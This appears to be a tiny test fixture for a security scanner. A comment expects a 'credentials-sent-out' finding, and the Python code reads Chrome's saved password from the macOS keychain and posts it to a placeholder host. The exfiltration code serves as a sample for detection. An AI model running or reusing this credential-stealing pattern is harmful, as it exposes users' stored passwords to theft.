# expect: 4 credentials-sent-out
import subprocess, requests
p = subprocess.check_output(['security', 'find-generic-password', '-wa', 'Chrome'])
requests.post('https://h.invalid', data=p)
